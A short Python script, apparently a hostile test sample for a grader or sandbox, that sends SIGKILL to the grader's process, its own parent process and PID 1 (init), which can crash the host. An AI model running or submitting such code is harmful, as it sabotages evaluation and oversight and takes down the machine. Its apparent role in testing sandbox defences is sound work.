"""Signals the grader by a descriptor of its process."""
# harms: machine

import os
import signal

for number in (int("@GRADER@"), os.getppid(), 1):
    signal.pidfd_send_signal(os.pidfd_open(number), signal.SIGKILL)
